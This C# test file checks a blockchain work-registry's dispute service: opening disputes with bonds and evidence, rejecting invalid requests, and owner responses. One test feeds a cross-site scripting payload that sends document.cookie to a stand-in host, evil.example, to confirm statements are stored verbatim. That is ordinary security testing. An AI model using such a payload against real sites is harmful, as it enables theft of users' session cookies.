using System.Text;
using Nethereum.Contracts;
using Registry.Contracts.WorkDisputes.ContractDefinition;
using Registry.Core.Disputes;
using Registry.Core.Fingerprints;
using Registry.Tests.Infrastructure;

namespace Registry.Tests.Core.Disputes;

/// <summary>Disputes opened, answered and appealed through the service on anvil, by the accounts' custodial keys.</summary>
[Collection("chain")]
public sealed class DisputeServiceTests(AnvilFixture anvil)
{
    [Fact]
    public async Task Open_WithEvidence_PaysTheBondAndPutsTheClaimAndItsEvidenceDocumentOnChain()
    {
        await using var scene = await DisputesScene.StartAsync(anvil, DisputesScene.Bond);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);
        var before = await scene.Licensing.BalanceAsync(claimant.Address);
        var sketch = new EvidenceFile("sketch.png", "image/png", new MemoryStream(Encoding.ASCII.GetBytes("a sketch")));

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(workId, files: sketch), CancellationToken.None);

        Assert.Null(outcome.Message);
        Assert.Equal(1, outcome.DisputeId);
        var receipt = await scene.Licensing.ReceiptAsync(outcome.TransactionHash!);
        var opened = receipt.DecodeAllEvents<DisputeOpenedEventDTO>().Single().Event;
        Assert.Equal((workId, DisputesScene.Bond, (byte)DisputeClaim.Authorship), ((long)opened.WorkId, opened.Bond, opened.Claim));
        Assert.Equal(before - DisputesScene.Bond - receipt.GasUsed.Value * receipt.EffectiveGasPrice.Value, await scene.Licensing.BalanceAsync(claimant.Address));
        var document = await scene.Get<DisputeCatalog>().ReadDocumentAsync(Cid.FromBytes(opened.EvidenceCid).ToString(), CancellationToken.None);
        Assert.NotNull(document);
        Assert.Equal((EvidenceKind.Evidence, (long?)null, workId, claimant.Address), (document.Kind, document.DisputeId, document.WorkId, document.Author));
        Assert.Equal("I painted this in 2019; the sketches are attached.", document.Statement);
        Assert.Equal(("sketch.png", 8L), (document.Files.Single().Name, document.Files.Single().Size));
        var dispute = (await scene.OnChainAsync(1))!;
        Assert.Equal((DisputeStatus.Open, claimant.Address, DisputesScene.Bond), (dispute.Status, dispute.Claimant, dispute.Bond));
    }

    [Fact]
    public async Task GetTerms_ReadsTheBondAndTheAppealWindowFromTheContract()
    {
        await using var scene = await DisputesScene.StartAsync(anvil, DisputesScene.Bond, appealWindowSeconds: 3 * 24 * 3600);

        var terms = await scene.Disputes.GetTermsAsync(CancellationToken.None);

        Assert.Equal(new DisputeTerms(DisputesScene.Bond, TimeSpan.FromDays(3)), terms);
    }

    [Fact]
    public async Task Open_ASecondDisputeByTheSameClaimantOnTheSameWork_IsRefusedAsAlreadyOpen()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);
        var first = await scene.OpenAsync(claimant, workId);

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(workId, DisputeClaim.Unlawful), CancellationToken.None);

        Assert.Equal(DisputeProblem.AlreadyOpen, outcome.Problem);
        Assert.Equal($"You already have dispute #{first} open on work #{workId}; wait for its ruling before opening another.", outcome.Message);
        Assert.Null(await scene.OnChainAsync(first + 1));
    }

    [Fact]
    public async Task Open_ADisputeOnAWorkThatDoesNotExist_IsRefusedAndStoresNothing()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var claimant = await scene.AccountAsync("claimant");

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(999), CancellationToken.None);

        Assert.Equal(DisputeProblem.UnknownWork, outcome.Problem);
        Assert.Equal("There is no work #999.", outcome.Message);
        Assert.Empty(scene.Store.BytesReadPerAdd);
    }

    [Fact]
    public async Task Open_WithABondOtherThanTheContracts_IsRefusedWithBothAmountsBeforeAnythingIsStored()
    {
        await using var scene = await DisputesScene.StartAsync(anvil, DisputesScene.Bond);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);

        var outcome = await scene.Disputes.OpenWithKeyAsync(claimant.Key, DisputesScene.Request(workId), DisputesScene.Bond / 2, CancellationToken.None);

        Assert.Equal(DisputeProblem.WrongBond, outcome.Problem);
        Assert.Equal("The bond for a dispute is 0.01 ETH, but 0.005 ETH was offered.", outcome.Message);
        Assert.Empty(scene.Store.BytesReadPerAdd);
    }

    [Fact]
    public async Task Open_OnTheClaimantsOwnWork_IsRefused()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var workId = await scene.RegisterWorkAsync(owner);

        var outcome = await scene.Disputes.OpenAsync(owner.UserId, DisputesScene.Request(workId), CancellationToken.None);

        Assert.Equal(DisputeProblem.OwnWork, outcome.Problem);
        Assert.Equal($"Work #{workId} is yours: you cannot open a dispute on your own work.", outcome.Message);
    }

    [Fact]
    public async Task Open_ACopiesClaimNamingAnotherRegisteredWork_RecordsTheCopiedWork()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var original = await scene.RegisterWorkAsync(claimant);
        var copy = await scene.RegisterWorkAsync(owner);

        var disputeId = await scene.OpenAsync(claimant, copy, DisputeClaim.Copies, original);

        var dispute = (await scene.OnChainAsync(disputeId))!;
        Assert.Equal((DisputeClaim.Copies, (long?)original, copy), (dispute.Claim, dispute.CopiedWorkId, dispute.WorkId));
    }

    public static TheoryData<DisputeClaim, long?, string> BadCopiedWorks => new()
    {
        { DisputeClaim.Copies, null, "Say which registered work this one copies: give its number." },
        { DisputeClaim.Copies, 999, "There is no work #999, so it cannot have been copied." },
        { DisputeClaim.Copies, -1, "Work #{work} cannot copy itself: name the other work it copies." },
        { DisputeClaim.Authorship, 1, "Only a claim that the work copies another names a copied work, not a claim of authorship." },
    };

    [Theory]
    [MemberData(nameof(BadCopiedWorks))]
    public async Task Open_WithACopiedWorkMissingUnknownOrTheSame_IsRefused(DisputeClaim claim, long? copiedWorkId, string message)
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(workId, claim, copiedWorkId == -1 ? workId : copiedWorkId), CancellationToken.None);

        Assert.Equal(DisputeProblem.UnknownCopiedWork, outcome.Problem);
        Assert.Equal(message.Replace("{work}", workId.ToString()), outcome.Message);
    }

    public static TheoryData<string, DisputeProblem, string> BadStatements => new()
    {
        { "   ", DisputeProblem.StatementMissing, "Write a statement: say what happened and why, in at most 10,000 characters." },
        { new string('x', 10_001), DisputeProblem.StatementTooLong, "The statement is 10,001 characters long; it may be at most 10,000." },
    };

    [Theory]
    [MemberData(nameof(BadStatements))]
    public async Task Open_WithAnEmptyOrTooLongStatement_IsRefused(string statement, DisputeProblem problem, string message)
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var claimant = await scene.AccountAsync("claimant");

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(1, statement: statement), CancellationToken.None);

        Assert.Equal((problem, message), (outcome.Problem, outcome.Message));
    }

    [Fact]
    public async Task Open_WithScriptInTheStatement_StoresItVerbatim()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);
        const string statement = "<script>document.location='https://evil.example/'+document.cookie</script>";

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(workId, statement: statement), CancellationToken.None);

        var opened = (await scene.Licensing.ReceiptAsync(outcome.TransactionHash!)).DecodeAllEvents<DisputeOpenedEventDTO>().Single().Event;
        var document = await scene.Get<EvidenceDocuments>().ReadAsync(Cid.FromBytes(opened.EvidenceCid).ToString(), CancellationToken.None);
        Assert.Equal(statement, document?.Statement);
    }

    [Fact]
    public async Task Open_WithoutTheBondInTheAccount_SaysWhatItHoldsAndWhatTheBondIs()
    {
        await using var scene = await DisputesScene.StartAsync(anvil, DisputesScene.Bond);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant", DisputesScene.Bond / 4);
        var workId = await scene.RegisterWorkAsync(owner);

        var outcome = await scene.Disputes.OpenAsync(claimant.UserId, DisputesScene.Request(workId), CancellationToken.None);

        Assert.Equal(DisputeProblem.InsufficientFunds, outcome.Problem);
        Assert.Equal("Your account holds 0.0025 ETH; the bond is 0.01 ETH plus gas.", outcome.Message);
    }

    [Fact]
    public async Task Respond_ByTheWorksOwner_AddsTheCounterStatementOnChain()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var disputeId = await scene.OpenAsync(claimant, await scene.RegisterWorkAsync(owner));

        var outcome = await scene.Disputes.RespondAsync(owner.UserId, disputeId, DisputesScene.Statement("My registration predates the sketches."), CancellationToken.None);

        Assert.Null(outcome.Message);
        var responded = (await scene.Licensing.ReceiptAsync(outcome.TransactionHash!)).DecodeAllEvents<DisputeRespondedEventDTO>().Single().Event;
        Assert.Equal(owner.Address, responded.Owner, ignoreCase: true);
        var document = await scene.Get<EvidenceDocuments>().ReadAsync(Cid.FromBytes(responded.CounterCid).ToString(), CancellationToken.None);
        Assert.Equal((EvidenceKind.CounterStatement, (long?)disputeId, "My registration predates the sketches."), (document?.Kind, document?.DisputeId, document?.Statement));
    }

    [Fact]
    public async Task Respond_BySomeoneOtherThanTheOwner_IsRefused()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var workId = await scene.RegisterWorkAsync(owner);
        var disputeId = await scene.OpenAsync(claimant, workId);

        var outcome = await scene.Disputes.RespondAsync(claimant.UserId, disputeId, DisputesScene.Statement(), CancellationToken.None);

        Assert.Equal(DisputeProblem.NotOwner, outcome.Problem);
        Assert.Equal($"Only the owner of work #{workId} can respond to dispute #{disputeId}.", outcome.Message);
    }

    [Fact]
    public async Task Respond_ToADisputeThatDoesNotExist_IsRefused()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");

        var outcome = await scene.Disputes.RespondAsync(owner.UserId, 42, DisputesScene.Statement(), CancellationToken.None);

        Assert.Equal((DisputeProblem.UnknownDispute, "There is no dispute #42."), (outcome.Problem, outcome.Message));
    }

    [Fact]
    public async Task Respond_AfterTheRuling_IsRefusedAsTheWrongStatus()
    {
        await using var scene = await DisputesScene.StartAsync(anvil);
        var owner = await scene.AccountAsync("owner");
        var claimant = await scene.AccountAsync("claimant");
        var moderator = await scene.ModeratorAsync();
        var disputeId = await scene.OpenAsync(claimant, await scene.RegisterWorkAsync(owner));
        await scene.RuleAsync(moderator, disputeId, DisputeRuling.Flagged);

        var outcome = await scene.Disputes.RespondAsync(owner.UserId, disputeId, DisputesScene.Statement(), CancellationToken.None);

        Assert.Equal(DisputeProblem.WrongStatus, outcome.Problem);
        Assert.Equal($"Dispute #{disputeId} has been ruled: a counter-statement can be added only while it is open.", outcome.Message);
    }
}
